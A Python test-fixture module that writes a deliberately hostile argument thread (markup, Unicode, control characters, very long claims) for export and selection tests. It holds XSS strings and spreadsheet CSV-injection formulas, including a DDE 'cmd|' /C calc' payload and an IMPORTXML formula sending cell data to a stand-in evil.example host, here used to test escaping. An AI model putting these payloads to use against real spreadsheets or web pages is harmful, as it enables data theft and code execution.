"""A small argument graph with hostile text, shared by the export and selection tests.

Markup and script, quotes, ``$`` maths, XML-forbidden control characters, several scripts of
Unicode and a very long claim, written through ``graph.writes`` like any ingest. Tests compute
what they expect from these models (``reference``, ``within``), never from typed-in answers.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import networkx as nx
from argmap.graph.store import Store
from argmap.graph.writes import write_extractions, write_thread

from argmap.core.ids import claim_id
from argmap.core.models import Claim, Post, Relation, Thread

Nasty = tuple[Thread, list[Claim], list[Relation]]

XSS = '<img src=x onerror="window.__xss=1">'
NASTY = [
    f'The article says <script>window.__xss=2</script> & "quotes" matter {XSS}',
    "Unicode: naïve café — “smart quotes” ✓ 中文 עברית",
    "A very long claim " + "that goes on and on without ever ending, " * 40 + "and stops.",
    "Dollar $x^2$ signs, \\mathrm{tex}, 50% {braces} ]]> and back\\slash",
    'Control\x0bchar and <b>bold</b> \' single quote\nnew line, "double" </script>',
    "Short.",
    "Membership grew because of the sales, not despite them.",
    "Nobody here said the sales were the problem.",
]
AUTHORS = ["Bob", "Cé'line <x>", "Dan & Co", "bob", "Eve", "Fay", "Gus"]
# (source index, target index, type, confidence): indexes into the claims list
RELATIONS = [
    (2, 0, "rebuts", 0.9),
    (3, 0, "rebuts", 0.4),
    (4, 2, "rebuts", 0.8),
    (5, 2, "supports", 0.7),
    (1, 3, "supports", 0.6),
    (6, 4, "rebuts", 0.55),
    (7, 6, "rebuts", 0.3),
    (6, 0, "supports", 0.5),
]
START = datetime(2013, 6, 24, 9, 0, tzinfo=UTC)


def whole_claim(post_id: str, text: str) -> Claim:
    """A claim whose quote and paraphrase are the whole of its post's ``text``."""
    return Claim(
        id=claim_id(post_id, 0, len(text)),
        post_id=post_id,
        text=text,
        quote=text,
        start=0,
        end=len(text),
        extractor="test",
    )


def nasty_thread(
    tid: str = "t_nasty",
    title: str = 'Thinking of <Joining> the "ISO"? & more',
    url: str | None = "https://example.org/iso?a=1&b=<2>",
) -> tuple[Thread, list[Claim]]:
    article_text = NASTY[0] + "\n\n" + NASTY[1]
    posts = [
        Post(
            id=f"{tid}_p0",
            thread_id=tid,
            kind="article",
            author='Ann "<Author>"',
            posted_at=START,
            position=0,
            text=article_text,
        )
    ]
    claims = []
    for sentence in NASTY[:2]:
        s = article_text.index(sentence)
        claims.append(
            Claim(
                id=claim_id(posts[0].id, s, s + len(sentence)),
                post_id=posts[0].id,
                text=sentence,
                quote=sentence,
                start=s,
                end=s + len(sentence),
                extractor="test",
            )
        )
    for i, sentence in enumerate(NASTY[2:], 1):
        text = f"Reply number {i}. {sentence}"
        post = Post(
            id=f"{tid}_p{i}",
            thread_id=tid,
            kind="comment",
            author=AUTHORS[i - 1],
            posted_at=START + timedelta(days=i, hours=i),
            position=i,
            text=text,
            parent_id=posts[0].id,
        )
        posts.append(post)
        s = text.index(sentence)
        claims.append(
            Claim(
                id=claim_id(post.id, s, s + len(sentence)),
                post_id=post.id,
                text=" ".join(sentence.split())[:400],
                quote=sentence,
                start=s,
                end=s + len(sentence),
                extractor="test",
            )
        )
    thread = Thread(
        id=tid,
        title=title,
        url=url,
        source_format="wordpress-text",
        published_at=START,
        posts=posts,
        reply_tree="source",
    )
    return thread, claims


def relations_for(claims: list[Claim]) -> list[Relation]:
    return [
        Relation(
            source=claims[a].id,
            target=claims[b].id,
            type=t,
            confidence=c,
            rationale=f"because <i>{t}</i> & {XSS}",
            extractor="test",
        )
        for a, b, t, c in RELATIONS
    ]


def write_nasty(store: Store, tid: str = "t_nasty", **kw) -> Nasty:
    """Write the hostile thread, its claims and relations; return the models written."""
    thread, claims = nasty_thread(tid, **kw)
    rels = relations_for(claims)
    write_thread(store, thread)
    write_extractions(store, [p.id for p in thread.posts], claims, rels, "test")
    return thread, claims, rels


def write_loner(store: Store, beside: Nasty) -> Claim:
    """Write a claim with no relation at all into the second post of ``beside`` (a written
    hostile thread), next to that post's own claim (a post's claims are written together)."""
    thread, claims, _ = beside
    post = thread.posts[1]
    loner = Claim(
        id=claim_id(post.id, 0, 5),
        post_id=post.id,
        text="Reply",
        quote="Reply",
        start=0,
        end=5,
        extractor="test",
    )
    write_extractions(store, [post.id], [claims[2], loner], [], "test")
    return loner


def reference(claims: list[Claim], rels: list[Relation]) -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    g.add_nodes_from(c.id for c in claims)
    for r in rels:
        g.add_edge(r.source, r.target, key=r.type, type=r.type, confidence=r.confidence)
    return g


def within(g: nx.MultiDiGraph, focus: str, hops: int) -> dict[str, int]:
    return nx.single_source_shortest_path_length(nx.Graph(g.to_undirected()), focus, cutoff=hops)


# Cells a spreadsheet would run (OWASP "CSV injection"): each starts with a formula character.
FORMULAS = [
    '=HYPERLINK("http://evil.example","click me")',
    "+1 for the article, it is right",
    "-1, the article is wrong about dues",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed in: =1+1",
    "\r=2+3 after a carriage return",
]


def write_formulas(store: Store, tid: str = "t_formulas") -> Nasty:
    """Write a thread whose title, authors, comments, claims and rationales start like
    spreadsheet formulas (``FORMULAS``); return the models written."""
    thread, _ = nasty_thread(tid, title=FORMULAS[0], url=None)
    said = '=IMPORTXML("http://evil.example/?q="&A1, "//a") is what the article says.'
    article = thread.posts[0].model_copy(update={"author": "=cmd|' /C calc'!A0", "text": said})
    posts = [article]
    claims = [whole_claim(article.id, said)]
    for i, text in enumerate(FORMULAS, 1):
        post = Post(
            id=f"{tid}_p{i}",
            thread_id=tid,
            kind="comment",
            author=FORMULAS[-i],
            posted_at=START + timedelta(days=i),
            position=i,
            text=text,
            parent_id=article.id,
        )
        posts.append(post)
        claims.append(whole_claim(post.id, text))
    thread = thread.model_copy(update={"posts": posts})
    rels = [
        Relation(
            source=claims[i].id,
            target=claims[i - 1].id,
            type="rebuts" if i % 2 else "supports",
            confidence=0.5 + i / 20,
            rationale=FORMULAS[i - 1],
            extractor="test",
        )
        for i in range(1, len(claims))
    ]
    write_thread(store, thread)
    write_extractions(store, [p.id for p in thread.posts], claims, rels, "test")
    return thread, claims, rels
